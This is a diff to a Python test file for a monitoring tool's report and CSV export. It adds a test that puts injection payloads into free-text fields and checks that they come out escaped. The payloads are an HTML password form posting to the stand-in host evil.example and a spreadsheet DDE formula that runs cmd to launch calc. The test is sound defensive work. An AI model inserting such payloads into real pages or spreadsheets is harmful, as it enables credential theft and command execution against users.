@@ -92,10 +92,46 @@ def test_an_edited_sample_result_is_read_or_refused_in_one_line(sample_result, t
 @given(data=st.data())
 def test_an_edited_monitor_database_is_read_or_refused_in_one_line(valid_db, tmp_path, data):
     n = next(_counter)
-    db = fresh_copy(valid_db, tmp_path / "monitor.sqlite")
+    db = fresh_copy(valid_db, tmp_path / f"monitor{n}.sqlite")
     what = mutate_db(db, data)
     command = data.draw(st.sampled_from(DB_COMMANDS), "command")
     out = tmp_path / f"out{n}"
     code, err = run_db_command(command, db, out)
     check_outcome(code, err, f"{' '.join(command)} after editing {what}")
     shutil.rmtree(out, ignore_errors=True)
+
+
+PAYLOADS = ('<form action="https://evil.example/"><input name=pw></form>', "=cmd|' /C calc'!A0")
+
+
+@pytest.mark.xfail(reason="issue 22 items 11-12 (HTML escaping, CSV formula neutralising) are "
+                   "another branch's: remove this mark once merged", strict=False)
+def test_payloads_in_free_text_reach_no_page_or_spreadsheet_raw(valid_folder, tmp_path):
+    """The words of events are refused when unknown (test_validation.py); what is free text
+    (names, versions, reasons) must come out escaped in HTML and neutralised in CSV."""
+    import json
+
+    folder = fresh_copy(valid_folder, tmp_path / "in" / "visit.spasm-cv")
+    doc = json.loads((folder / "summary.json").read_text())
+    for i, (record, key) in enumerate([("input", "name"), ("input", "codec"),
+                                       ("software", "version"), ("model", "name")]):
+        doc[record][key] = PAYLOADS[i % 2]
+    doc["interrupted"] = PAYLOADS[0]
+    (folder / "summary.json").write_text(json.dumps(doc))
+    assert run_folder_command(("report",), folder, tmp_path / "o")[0] == 0
+    assert run_folder_command(("export", "csv"), folder, tmp_path / "o")[0] == 0
+    assert PAYLOADS[0] not in (tmp_path / "o" / "report.html").read_text()
+    for table in (tmp_path / "o" / "csv").glob("*.csv"):
+        import csv
+
+        with open(table, newline="") as f:
+            cells = [c for row in csv.reader(f) for c in row]
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@") and not _number(c)]
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
